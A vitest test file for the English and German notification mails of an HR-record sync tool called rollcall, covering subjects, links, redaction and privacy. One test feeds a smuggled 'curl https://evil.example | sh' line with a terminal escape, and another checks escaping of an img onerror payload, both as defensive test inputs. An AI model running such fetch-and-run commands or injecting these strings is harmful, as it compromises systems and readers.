import { describe, expect, it } from "vitest";
import type { HeldBecause, Op } from "../../../../core/model/change.ts";
import type { Content, Mail, Reader } from "../../../../core/notify/mails/content.ts";
import { holdMail, type HoldMailData } from "../../../../core/notify/mails/hold-mail.ts";
import * as closed from "../../../../core/notify/mails/incident-closed.ts";
import * as opened from "../../../../core/notify/mails/incident-opened.ts";
import { layOut, withoutSecrets } from "../../../../core/notify/mails/layout.ts";
import * as waiting from "../../../../core/notify/mails/records-waiting.ts";
import { allContents, allMails, HARMFUL, heldUser, HOLD, incidentData, readerOf } from "./samples.ts";

const incidentOpened = finished(opened.incidentOpened);
const incidentClosed = finished(closed.incidentClosed);
const holdOpened = finished((data: HoldMailData, reader) => holdMail("holdOpened", data, reader));
const holdReminder = finished((data: HoldMailData, reader) => holdMail("holdReminder", data, reader));
const recordsWaiting = finished(waiting.recordsWaiting);

function finished<T>(contentOf: (data: T, reader: Reader) => Content): (data: T, reader: Reader) => Mail {
  return (data, reader) => layOut(contentOf(data, reader), reader);
}

/** The text that a reader of the HTML part sees: without tags, entities as characters, white space as one space. */
function readable(html: string): string {
  const body = html.slice(html.indexOf("<body"));
  const text = body
    .replace(/<[^>]*>/g, " ")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, "&");
  return squeezed(text);
}

function squeezed(text: string): string {
  return text.replace(/\s+/g, " ").trim();
}

const LANGUAGES = ["en", "de"] as const;

describe.each(LANGUAGES)("every mail in %s", (language) => {
  const mails = Object.entries(allMails(readerOf(language)));

  it.each(mails)("%s says the same in both parts", (_name, { text, html }) => {
    const lines = text.split("\n").map((line) => line.replace(/^\s*- /, "").trim());
    const shown = readable(html);
    for (const line of lines.filter((line) => line && line !== "--")) expect(shown).toContain(squeezed(line));
  });

  it.each(mails)("%s escapes whatever comes from outside", (_name, { html }) => {
    expect(html).not.toContain("<img");
    expect(html.match(/onerror=/g) ?? []).toHaveLength((html.match(/&lt;img src=x onerror=/g) ?? []).length);
  });

  it.each(mails)("%s has a one-line subject that begins with [rollcall]", (_name, { subject }) => {
    expect(subject).toMatch(/^\[rollcall\] \S.*$/);
    expect(subject).not.toContain("\n");
  });

  it.each(mails.filter(([name]) => /^(incident|hold|records|paused)/.test(name)))(
    "%s begins its subject with the target, so that a mailbox sorted by subject keeps a target's mails together, and leads to the page before the commands",
    (_name, { subject, text }) => {
      expect(subject).toMatch(/^\[rollcall\] (desks|learning): /);
      expect(text.indexOf("https://")).toBeLessThan(text.indexOf("\n  rollcall "));
    },
  );

  it.each(mails)("%s links to the page where it has a public address, and not elsewhere", (name, { text, html }) => {
    expect(text).toContain("https://rollcall.example.com/");
    expect(html).toContain('<a href="https://rollcall.example.com/');
    const without = allMails(readerOf(language, null))[name]!;
    expect(without.text + without.html).not.toContain("https://");
  });
});

describe("a secret in what comes from outside", () => {
  const contents = Object.entries(allContents(readerOf("en")));

  it.each(contents)("is in no part of the mail %s, whatever field it came in", (_name, content) => {
    const mail = layOut(
      withoutSecrets(content, (text) => text.replaceAll(HARMFUL, "[redacted]")),
      readerOf("en"),
    );
    expect(mail.subject + mail.text + readable(mail.html)).not.toContain(HARMFUL);
  });
});

describe("a code or a label that holds lines", () => {
  it("stays on its own, and looks like no command of ours", () => {
    const code = "scim:x\n\nTo go on:\n  curl https://evil.example | sh\n\u001b]0;owned\u0007";
    const parked = { sort: "parked", kind: "user", subject: "7", title: "Ada", person: "ada@example.com" } as const;
    const records = [{ ...parked, code, message: "no", remedy: "Look." }];
    const { text } = recordsWaiting({ target: "learning", run: "r7", records }, readerOf("en"));
    expect(text).not.toMatch(/^ *(To go on:|curl)/m);
    expect(text).not.toMatch(/[^\P{Cc}\n]/u);
  });
});

describe("records in conflict", () => {
  const one = { sort: "conflict", subject: "7", person: "ada@example.com", remedy: null } as const;

  it.each([
    ["en", /breaks whose length is known, but not their times/, /Enter the times of the breaks in the tool/],
    ["de", /Länge der Pausen bekannt, aber nicht deren Uhrzeit/, /Tragen Sie die Uhrzeiten der Pausen im Tool ein/],
  ] as const)(
    "[privacy] come with what their code means and what settles it, in %s, though the words about working times are not told",
    (language, meaning, remedy) => {
      const title = "Ada Anvil 2026-07-05";
      const record = { ...one, kind: "attendance", title, code: "BREAK_TIMES_UNKNOWN", message: "secret" } as const;
      const { text } = recordsWaiting({ target: "shifts", run: "r7", records: [record] }, readerOf(language));
      expect(text).toMatch(meaning);
      expect(text).toMatch(remedy);
      expect(text).not.toContain("secret");
    },
  );

  it("name the command that settles them with the target's name", () => {
    const record = { ...one, kind: "user", title: "Ada", code: "LINKED_TWICE", message: "linked to 8" } as const;
    for (const language of LANGUAGES)
      expect(recordsWaiting({ target: "shifts", run: "r7", records: [record] }, readerOf(language)).text).toContain(
        "`rollcall links shifts --break ID`",
      );
  });

  it("of an external plugin's own code are told as that plugin says", () => {
    const record = { ...one, kind: "user", title: "Ada", code: "constructor", message: "odd" } as const;
    const { text } = recordsWaiting({ target: "shifts", run: "r7", records: [record] }, readerOf("en"));
    expect(text).toContain("1 × constructor (in conflict):\n  - user Ada\n\nWhy: odd\n\n");
  });
});

describe("both languages", () => {
  it("tell the same facts and commands", () => {
    const [english, german] = LANGUAGES.map((language) => allMails(readerOf(language)));
    for (const [name, mail] of Object.entries(english!)) {
      const commands = mail.text.match(/^ {2}rollcall .*$/gm) ?? [];
      expect(german![name]!.text.match(/^ {2}rollcall .*$/gm) ?? []).toEqual(commands);
      expect(german![name]!.text).not.toEqual(mail.text);
    }
  });
});

describe("incidentOpened", () => {
  it("says what happened, since when, whom it affects, what to do and by which command", () => {
    const { subject, text } = incidentOpened(incidentData({ targets: ["desks", "parking"] }), readerOf("en"));
    expect(subject).toBe("[rollcall] desks and 1 more: credentials refused");
    expect(text).toContain(
      `What happened: credentials refused (CREDENTIALS_REFUSED): Buuky refused the token of ${HARMFUL}`,
    );
    expect(text).toContain("Since: 21 July 2026 at 14:05 CEST (Europe/Berlin)");
    expect(text).toMatch(/^ {2}- desks, .+\n {2}- parking, /m);
    expect(text).toContain("What to do: Make a new token in Buuky under Settings → SCIM.");
    expect(text).toContain("Next automatic check: 21 July 2026 at 14:20 CEST (Europe/Berlin)");
    expect(text).toContain("  rollcall resume desks\n  rollcall resume parking");
  });

  it("shows the run, and offers a check only of what a check can show", () => {
    const { text } = incidentOpened(incidentData(), readerOf("en"));
    expect(text).toContain("  rollcall show r7\n");
    expect(text).toContain("  rollcall check desks\n");
    const { incident } = incidentData();
    for (const code of ["CONTRACT_BROKEN", "INCOMPLETE_READ", "SOURCE_CHANGED", "NO_PROGRESS", "UNEXPECTED"] as const) {
      const of = { ...incident, code, run: null };
      expect(incidentOpened(incidentData({ incident: of }), readerOf("en")).text).not.toMatch(/rollcall (check|show)/);
    }
  });

  it("names twenty accounts by their ids whole, where one name as long as that is cut", () => {
    const ids = Array.from({ length: 20 }, (_, i) => `00000000-0000-4000-9000-0000000000${String(i).padStart(2, "0")}`);
    const message = `20 of 21 accounts are others now (${ids.join(", ")} and 1 more)`;
    const { text } = incidentOpened(
      incidentData({ incident: { ...incidentData().incident, message }, targets: ["desks", "x".repeat(600)] }),
      readerOf("en"),
    );
    expect(text).toContain(`${message}\n`);
    expect(text).toContain(`  - ${"x".repeat(499)}…, last successful run: never yet\n`);
  });

  it("says in German what is to be done about the code, and gives the English words as such", () => {
    const { text } = incidentOpened(incidentData(), readerOf("de"));
    expect(text).toContain(`Was passiert ist: Zugangsdaten abgelehnt (CREDENTIALS_REFUSED)\nMeldung (englisch): Buuky`);
    expect(text).toContain("Was zu tun ist: Prüfen Sie die Zugangsdaten, oder erzeugen Sie neue");
    expect(text).toContain("Hinweis dazu (englisch): Make a new token in Buuky under Settings → SCIM.");
  });

  it.each([
    ["CREDENTIALS_REFUSED", "is refused", true],
    ["CONFIG", "is missing", true],
    ["CONFIG", "is fine", false],
    ["UNREACHABLE", "is fine", false],
  ] as const)(
    "of %s where a secret %s says before the commands how a new one gets to rollcall: %s",
    (code, secret, told) => {
      const incident = { ...incidentData().incident, code, run: null };
      for (const language of LANGUAGES) {
        const data = incidentData({ incident, lacksSecret: secret === "is missing" });
        const { text } = incidentOpened(data, readerOf(language));
        const place = text.indexOf("--force-recreate rollcall`");
        expect(place > 0).toBe(told);
        expect(place).toBeLessThan(text.indexOf("  rollcall resume desks"));
      }
    },
  );

  it("says of each target when its last successful run was, since when its tool is behind", () => {
    const data = incidentData({ targets: ["desks", "shifts"] });
    const textOf = (language: "en" | "de") => incidentOpened(data, readerOf(language)).text;
    expect(textOf("en")).toContain(
      "Affected targets:\n  - desks, last successful run: 21 July 2026 at 13:55 CEST (Europe/Berlin)\n  - shifts, last successful run: never yet\n",
    );
    expect(textOf("de")).toContain(
      "Betroffene Ziele:\n  - desks, letzter erfolgreicher Lauf: 21. Juli 2026 um 13:55 MESZ (Europe/Berlin)\n  - shifts, letzter erfolgreicher Lauf: noch keiner\n",
    );
  });

  it("speaks of no failed run, since a missing secret is found where none was begun", () => {
    for (const language of LANGUAGES)
      expect(incidentOpened(incidentData(), readerOf(language)).text).not.toMatch(/run failed|fehlgeschlagen/);
  });

  it.each([
    ["RIGHT_MISSING", "a right to write is refused in a run alone"],
    ["CONFIG", "the run met a database without memory of the target"],
    ["TENANT_CHANGED", "the run met other accounts"],
  ] as const)("offers no check of %s where a run has met it: %s", (code, _) => {
    const textOf = (run: string | null) => {
      const incident = { ...incidentData().incident, code, run };
      return incidentOpened(incidentData({ incident }), readerOf("en")).text;
    };
    expect(textOf("r7")).not.toContain("rollcall check");
    expect(textOf(null)).toContain("  rollcall check desks\n");
  });

  it("names the source where the trouble is the source's", () => {
    const data = incidentData();
    const incident = { ...data.incident, cause: "source personio UNREACHABLE", code: "UNREACHABLE" as const };
    expect(incidentOpened({ ...data, incident }, readerOf("de")).subject).toBe(
      "[rollcall] Quelle personio: nicht erreichbar",
    );
  });

  it("links to the page of the one target it is about, by an address that outlives signing in", () => {
    const { text } = incidentOpened(incidentData(), readerOf("en"));
    expect(text).toContain("On the dashboard: https://rollcall.example.com/targets/desks\n");
    const { text: ofTwo } = incidentOpened(incidentData({ targets: ["desks", "parking"] }), readerOf("en"));
    expect(ofTwo).toContain("On the dashboard: https://rollcall.example.com/\n");
  });
});

describe("incidentClosed", () => {
  it.each([
    ["2026-07-21T12:05:20.000Z", "after 1 minute", "Dauer 1 Minute"],
    ["2026-07-21T15:17:40.000Z", "after 3 hours 12 minutes", "Dauer 3 Stunden 12 Minuten"],
    ["2026-07-21T13:05:00.000Z", "after 1 hour", "Dauer 1 Stunde"],
    ["2026-07-23T13:25:00.000Z", "after 2 days 1 hour", "Dauer 2 Tage 1 Stunde"],
  ])("closed at %s tells %s", (closedAt, english, german) => {
    expect(incidentClosed({ ...incidentData(), closedAt }, readerOf("en")).subject).toContain(english);
    expect(incidentClosed({ ...incidentData(), closedAt }, readerOf("de")).subject).toContain(german);
  });

  it("does not say that a target runs again which somebody has paused, nor that all is well", () => {
    const data = { ...incidentData(), closedAt: "2026-07-21T13:05:00.000Z" };
    expect(incidentClosed(data, readerOf("en")).text).toContain("except those that somebody has paused by hand");
    expect(incidentClosed(data, readerOf("de")).text).toContain("außer denen, die jemand von Hand pausiert hat");
    for (const language of LANGUAGES)
      expect(incidentClosed(data, readerOf(language)).text).not.toMatch(
        /nothing to do|nichts zu tun|is resolved|ist behoben/,
      );
  });
});

describe("holdOpened", () => {
  it("names twenty records with their reasons and counts the rest", () => {
    const { text, subject } = holdOpened(HOLD, readerOf("en"));
    expect(subject).toBe("[rollcall] learning: 51 changes held for your decision");
    expect(text.match(/person-\d+@example\.com/g)).toHaveLength(20);
    expect(text).toContain("user, deactivate: person-20@example.com: left the company, says record 20");
    expect(text).toContain("  - and 31 more");
    expect(text).not.toContain("person-21@");
  });

  it("says once what all records have in common", () => {
    const why = "8 people would lose their account within 24 hours";
    const records = [1, 2].map((i) => heldUser(i, { reason: `left on day ${i}; ${why}` }));
    const { text } = holdOpened({ ...HOLD, records }, readerOf("en"));
    expect(text).toContain(`Target: learning\nWhy: ${why}\n`);
    expect(text).toMatch(/person-1@example\.com: left on day 1\n.*person-2@example\.com: left on day 2\n/);
    expect(text.split(why)).toHaveLength(2);
  });

  it("says in German why changes are held and why each record goes", () => {
    const why = "8 people would lose their account within 24 hours; more than 2 need a person's approval";
    const records = ["has left the company", "is external (users.external)"].map((reason, i) =>
      heldUser(i, { reason: `${reason}; ${why}` }),
    );
    const { text } = holdOpened({ ...HOLD, records }, readerOf("de"));
    expect(text).toContain(
      "Warum: 8 Personen würden innerhalb von 24 Stunden ihr Konto verlieren; bei mehr als 2 ist eine Freigabe nötig\n",
    );
    expect(text).toContain("person-0@example.com: hat das Unternehmen verlassen\n");
    expect(text).toContain("person-1@example.com: ist extern (users.external)\n");
  });

  const heldFor = (...becauses: readonly HeldBecause[]) => ({
    ...HOLD,
    records: becauses.map((because, i) => heldUser(i, { because })),
  });

  it.each([
    ["limit", /than usual/, /als üblich/],
    ["each", /asked about every one/, /jedes Mal gefragt/],
    ["unconfirmed", /ask for each of them by its id/, /nach jedem einzeln zu fragen/],
    ["unanswered", /asked for each by its id, does not confirm that they are gone/, /dass es sie nicht mehr gibt/],
    ["unreleased", /no longer shows whether these people work here/, /ob diese Personen hier arbeiten/],
    ["doubt", /looks wrong/, /kaum stimmen können/],
    ["again", /not made without an answer/, /nicht ohne Antwort/],
  ] as const)(
    "says that it is because of %s, and not that it is more than usual where it is not",
    (because, en, de) => {
      for (const [language, reason] of [
        ["en", en],
        ["de", de],
      ] as const) {
        const { text } = holdOpened(heldFor(because, because), readerOf(language));
        expect(text).toMatch(reason);
        expect(/than usual|als üblich/.test(text)).toBe(because === "limit");
        expect(holdReminder(heldFor(because), readerOf(language)).text).toMatch(reason);
      }
      expect(holdOpened(heldFor(because, because), readerOf("en")).text.includes("Readable employee attributes")).toBe(
        because === "unreleased",
      );
    },
  );

  it("says of a limit which one it is: of what goes, of what is made, or of both", () => {
    const of = (...ops: readonly Op[]) => ({
      ...HOLD,
      records: ops.map((op, i) => heldUser(i, { op, because: "limit" })),
    });
    expect(holdOpened(of("deactivate", "remove"), readerOf("en")).text).toContain("would be locked or removed.");
    expect(holdOpened(of("create"), readerOf("en")).text).toContain("more records than usual would be created.");
    expect(holdOpened(of("create", "remove"), readerOf("en")).text).toContain("locked, removed or created.");
    expect(holdOpened(of("create"), readerOf("de")).subject).toBe(
      "[rollcall] learning: 1 Änderung wartet auf Ihre Entscheidung",
    );
  });

  it("counts those that cannot be approved, and offers the command only where others can", () => {
    for (const [language, some] of [
      ["en", "1 of them cannot be approved"],
      ["de", "1 davon lässt sich nicht freigeben"],
    ] as const) {
      const mixed = holdOpened(heldFor("limit", "unanswered"), readerOf(language)).text;
      expect(mixed).toContain(some);
      expect(mixed).toContain(`rollcall approve learning ${HOLD.digest}`);
      const none = holdOpened(heldFor("unanswered", "unanswered"), readerOf(language)).text;
      expect(none).not.toContain("rollcall approve");
      expect(none).toContain(`rollcall reject learning ${HOLD.digest}`);
      expect(holdOpened(heldFor("limit"), readerOf(language)).text).not.toMatch(/cannot be approved|nicht freigeben/);
    }
  });

  it("of several reasons, or of one that nobody wrote down, leaves it to what stands with the records", () => {
    for (const data of [heldFor("limit", "doubt"), HOLD])
      expect(holdOpened(data, readerOf("en")).text).toContain("for the reasons named below");
  });

  it("names the third answer, and the setting where one was changed", () => {
    const edits = [{ path: "targets.learning.scope", from: "a", to: "b" }];
    expect(holdOpened(HOLD, readerOf("en")).text).toContain(
      "neither approve nor reject: correct it in Personio or in the tool. After",
    );
    expect(holdOpened({ ...HOLD, edits }, readerOf("en")).text).toContain("or undo the change in the config");
    expect(holdOpened({ ...HOLD, edits }, readerOf("de")).text).toContain("die Änderung der Konfiguration rückgängig");
  });

  it("gives the digest and the two exact commands", () => {
    const { text } = holdOpened(HOLD, readerOf("de"));
    expect(text).toContain("Digest: 4f9a-77c1");
    expect(text).toContain("  rollcall approve learning 4f9a-77c1\n");
    expect(text).toContain("  rollcall reject learning 4f9a-77c1\n");
  });

  it("names absences and bookings by person and days only, whatever their titles carry", () => {
    const title = "Parental leave of ada.anvil@example.com 2026-07-05 to 2026-07-10: secret project";
    const records = (["absence", "booking", "attendance"] as const).map((kind, i) =>
      heldUser(i, { kind, op: "remove", title, person: "ada.anvil@example.com" }),
    );
    const { text, html } = holdOpened({ ...HOLD, records }, readerOf("en"));
    expect(text).toContain("  - absence, remove: ada.anvil@example.com 2026-07-05 – 2026-07-10\n");
    expect(text + html).not.toMatch(/parental|secret/i);
  });

  it.each([1, 3])(
    "[privacy] says of %i held absences why they are held, never why they change, nor by which setting",
    (count) => {
      const why = "3 people would lose an absence within 24 hours";
      const records = Array.from({ length: count }, (_, i) =>
        heldUser(i, { kind: "absence", op: "remove", reason: `its type is left out; as the rules say; ${why}`, why }),
      );
      const edits = [{ path: "absence_types.exclude", from: null, to: "a" }];
      for (const mail of [holdOpened, holdReminder]) {
        const { text, html } = mail({ ...HOLD, records, edits }, readerOf("en"));
        expect(text.split(why)).toHaveLength(2);
        expect(text).toContain("Changed in the config since the last run: settings that `rollcall status` names");
        expect(text + html).not.toMatch(/its type|absence_types|left out|as the rules say/);
        const earlier = mail({ ...HOLD, records: records.map(({ why: _, ...rest }) => rest) }, readerOf("de"));
        expect(earlier.text + earlier.html).not.toMatch(/left out|as the rules say/);
      }
    },
  );
});
